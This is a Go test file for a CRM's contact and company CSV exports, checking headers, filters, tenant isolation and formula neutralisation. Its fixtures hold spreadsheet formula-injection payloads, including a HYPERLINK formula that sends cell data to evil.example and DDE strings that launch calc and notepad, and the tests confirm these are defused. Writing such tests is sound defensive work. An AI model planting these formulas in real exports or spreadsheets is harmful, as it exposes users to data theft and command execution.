package app_test

import (
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/rapportcrm/rapport/pkg/auth"
	"github.com/rapportcrm/rapport/pkg/dev/testenv"
)

// exportRows reads a CSV export.
func exportRows(t *testing.T, r testenv.Reply, comma rune) [][]string {
	t.Helper()
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(r.Raw), "\uFEFF")))
	cr.Comma = comma
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, r.Raw)
	}
	return rows
}

func TestExport(t *testing.T) {
	h := start(t)
	adm := h.token(h.tenantA, auth.RoleAdmin)
	company := h.do("POST", "/v1/companies", adm, map[string]any{"name": "Ромашка", "tax_id": "7701234567"}).Want(t, http.StatusCreated).Body["id"].(string)
	h.do("POST", "/v1/companies", adm, map[string]any{"name": "Beta"}).Want(t, http.StatusCreated)
	h.do("POST", "/v1/contacts", adm, map[string]any{"first_name": "Пётр", "last_name": "Смирнов", "emails": []string{"p@x.ru", "petr@y.ru"},
		"phones": []string{"+7 495 123-45-67"}, "company_id": company, "tags": []string{"vip", "b2b"},
		"address": map[string]any{"country": "RU", "city": "Москва"}, "birthday": "1980-02-29"}).Want(t, http.StatusCreated)
	h.do("POST", "/v1/contacts", adm, map[string]any{"first_name": "Anna", "last_name": "Adams", "source": "website"}).Want(t, http.StatusCreated)
	h.do("POST", "/v1/contacts", h.token(h.tenantA, auth.RoleRep), map[string]any{"first_name": "Олег", "last_name": "Орлов", "position": "CEO; founder"}).Want(t, http.StatusCreated)

	r := h.do("GET", "/v1/contacts/export?sort=name", adm, nil).Want(t, http.StatusOK)
	if r.Header.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.Contains(r.Header.Get("Content-Disposition"), `filename="contacts.csv"`) {
		t.Fatalf("headers %v", r.Header)
	}
	rows := exportRows(t, r, ',')
	header := strings.Join(rows[0], ",")
	if header != "id,first_name,last_name,emails,phones,position,company_id,lifecycle_stage,source,timezone,address.country,address.region,"+
		"address.city,address.street,address.postal_code,birthday,owner_id,team,tags,created_at,updated_at" {
		t.Fatalf("header %s", header)
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	if len(rows) != 4 || rows[1][col["last_name"]] != "Adams" || rows[3][col["last_name"]] != "Смирнов" {
		t.Fatalf("rows %v", rows)
	}
	petr := rows[3]
	for k, want := range map[string]string{"emails": "p@x.ru; petr@y.ru", "phones": "'+74951234567", "company_id": company,
		"tags": "vip; b2b", "address.city": "Москва", "birthday": "1980-02-29", "timezone": "Europe/Moscow", "lifecycle_stage": "lead"} {
		if petr[col[k]] != want {
			t.Errorf("%s: %q, want %q", k, petr[col[k]], want)
		}
	}
	if rows[2][col["position"]] != "CEO; founder" {
		t.Errorf("a cell with the separator: %q", rows[2][col["position"]])
	}

	// The list's filters and search apply, and so does visibility.
	if rows := exportRows(t, h.do("GET", "/v1/contacts/export?tag=vip", adm, nil).Want(t, http.StatusOK), ','); len(rows) != 2 {
		t.Errorf("tag=vip: %v", rows)
	}
	if rows := exportRows(t, h.do("GET", "/v1/contacts/export?q=orlov", adm, nil).Want(t, http.StatusOK), ','); len(rows) != 1 {
		t.Errorf("q=orlov (search does not transliterate Орлов): %v", rows)
	}
	if rows := exportRows(t, h.do("GET", "/v1/contacts/export", h.token(h.tenantA, auth.RoleRep), nil).Want(t, http.StatusOK), ','); len(rows) != 2 || rows[1][col["last_name"]] != "Орлов" {
		t.Errorf("a rep exports their own: %v", rows)
	}
	// Excel in a comma-decimal locale: BOM and semicolons.
	x := h.do("GET", "/v1/contacts/export?format=excel", adm, nil).Want(t, http.StatusOK)
	if !strings.HasPrefix(string(x.Raw), "\uFEFFid;first_name;") || len(exportRows(t, x, ';')) != 4 {
		t.Fatalf("excel export %q", x.Raw[:40])
	}
	// Bad parameters are problems, before anything streams.
	h.do("GET", "/v1/contacts/export?format=xlsx", adm, nil).Want(t, http.StatusUnprocessableEntity)
	h.do("GET", "/v1/contacts/export?sort=age", adm, nil).Want(t, http.StatusUnprocessableEntity)

	// Companies.
	c := exportRows(t, h.do("GET", "/v1/companies/export", adm, nil).Want(t, http.StatusOK), ',')
	if len(c) != 3 || strings.Join(c[0][:4], ",") != "id,name,legal_name,tax_id" || c[1][1] != "Ромашка" || c[1][3] != "7701234567" {
		t.Fatalf("companies %v", c)
	}
	if c := exportRows(t, h.do("GET", "/v1/companies/export?q=beta", adm, nil).Want(t, http.StatusOK), ','); len(c) != 2 {
		t.Fatalf("companies q=beta %v", c)
	}

	// Another tenant's company export holds none of these companies.
	if c := exportRows(t, h.do("GET", "/v1/companies/export", h.token(h.tenantB, auth.RoleAdmin), nil).Want(t, http.StatusOK), ','); len(c) != 1 {
		t.Fatalf("tenant B exports tenant A's companies: %v", c)
	}

	// Another tenant exports only its own: here, thousands, across pages.
	seedContacts(t, h.appURL, h.tenantB, 2500)
	b := exportRows(t, h.do("GET", "/v1/contacts/export", h.token(h.tenantB, auth.RoleAdmin), nil).Want(t, http.StatusOK), ',')
	seen := map[string]bool{}
	for _, row := range b[1:] {
		seen[row[0]] = true
		if strings.Contains(row[col["first_name"]], "Пётр") && row[col["last_name"]] == "Смирнов" {
			t.Fatalf("tenant A's contact in tenant B's export: %v", row)
		}
	}
	if len(b) != 2501 || len(seen) != 2500 {
		t.Fatalf("tenant B exported %d rows, %d distinct", len(b)-1, len(seen))
	}
	for i := 2; i < len(b); i++ {
		if b[i-1][0] >= b[i][0] {
			t.Fatalf("rows %d and %d out of creation order", i-1, i)
		}
	}
}

// Cells a spreadsheet would run as formulas get a leading apostrophe in
// every flavour of export, and an import of the export strips it again:
// exported, imported into another tenant and exported there, every value
// comes back exactly.
func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
	h := start(t)
	admA, admB := h.token(h.tenantA, auth.RoleAdmin), h.token(h.tenantB, auth.RoleAdmin)
	for _, tok := range []string{admA, admB} {
		h.do("POST", "/v1/fields", tok, map[string]any{"entity": "contact", "key": "note", "label": "Note", "type": "text"}).
			Want(t, http.StatusCreated)
		h.do("POST", "/v1/fields", tok, map[string]any{"entity": "contact", "key": "score", "label": "Score", "type": "number"}).
			Want(t, http.StatusCreated)
		h.do("POST", "/v1/fields", tok, map[string]any{"entity": "company", "key": "note", "label": "Note", "type": "text"}).
			Want(t, http.StatusCreated)
	}
	hostile := []map[string]any{
		{"first_name": `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
			"position": "+cmd|' /C notepad'!A0", "phones": []string{"+7 912 000-00-01"}, "emails": []string{"f1@example.ru"},
			"address": map[string]any{"street": "-2+3+cmd|' /C calc'!A0"}, "custom": map[string]any{"note": "'=already quoted", "score": -5}},
		{"first_name": "'plain apostrophe", "last_name": "O'Brien", "emails": []string{"f2@example.ru"},
			"custom": map[string]any{"note": "''+twice", "score": 12.5}},
	}
	for _, c := range hostile {
		h.do("POST", "/v1/contacts", admA, c).Want(t, http.StatusCreated)
	}
	h.do("POST", "/v1/companies", admA, map[string]any{"name": "=1+2", "phones": []string{"+7 495 000-00-01"},
		"custom": map[string]any{"note": "@here"}}).Want(t, http.StatusCreated)

	rows := exportRows(t, h.do("GET", "/v1/contacts/export?sort=name", admA, nil).Want(t, http.StatusOK), ',')
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	var f1 []string
	for _, row := range rows[1:] {
		if row[col["emails"]] == "f1@example.ru" {
			f1 = row
		}
	}
	for k, want := range map[string]string{"first_name": `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"last_name": "'@SUM(1+1)*cmd|' /C calc'!A0", "position": "'+cmd|' /C notepad'!A0", "phones": "'+79120000001",
		"address.street": "'-2+3+cmd|' /C calc'!A0", "custom.note": "''=already quoted", "custom.score": "'-5"} {
		if f1 == nil || f1[col[k]] != want {
			t.Errorf("%s: %q, want %q", k, f1[col[k]], want)
		}
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: a cell starts a formula: %q", rows[0][i], cell)
			}
		}
	}
	x := exportRows(t, h.do("GET", "/v1/contacts/export?format=excel&sort=name", admA, nil).Want(t, http.StatusOK), ';')
	if !slices.EqualFunc(x, rows, slices.Equal[[]string]) {
		t.Errorf("the excel flavour differs from csv but for its separator:\n%v\n%v", x, rows)
	}
	co := exportRows(t, h.do("GET", "/v1/companies/export", admA, nil).Want(t, http.StatusOK), ',')
	if co[1][1] != "'=1+2" || co[1][8] != "'+74950000001" || co[1][len(co[1])-1] != "'@here" {
		t.Errorf("companies: %v", co)
	}

	// The export, imported into tenant B and exported there, is the same
	// file but for the ids and times the service assigns.
	for entity, path := range map[string]string{"contacts": "/v1/contacts/export?sort=name", "companies": "/v1/companies/export"} {
		file := h.do("GET", path, admA, nil).Want(t, http.StatusOK).Raw
		r := h.postCSV(admB, "entity="+entity, file).Want(t, http.StatusAccepted)
		if done := h.waitImport(admB, r.Body["id"].(string)); done.Body["failed"].(float64) != 0 {
			t.Fatalf("%s: %s %v", entity, done.Raw, h.importErrors(admB, r.Body["id"].(string)))
		}
		a := exportRows(t, h.do("GET", path, admA, nil).Want(t, http.StatusOK), ',')
		b := exportRows(t, h.do("GET", path, admB, nil).Want(t, http.StatusOK), ',')
		if len(a) != len(b) {
			t.Fatalf("%s: %d rows exported, %d after the round trip", entity, len(a), len(b))
		}
		for i := range a {
			for j, name := range a[0] {
				if name != "id" && name != "created_at" && name != "updated_at" && a[i][j] != b[i][j] {
					t.Errorf("%s row %d, %s: %q became %q", entity, i, name, a[i][j], b[i][j])
				}
			}
		}
	}
	got := h.do("GET", "/v1/contacts?q=f1@example.ru", admB, nil).Want(t, http.StatusOK).Body["items"].([]any)[0].(map[string]any)
	if got["first_name"] != hostile[0]["first_name"] || got["position"] != hostile[0]["position"] ||
		got["custom"].(map[string]any)["note"] != "'=already quoted" || got["custom"].(map[string]any)["score"] != -5.0 {
		t.Errorf("imported: %v", got)
	}
}
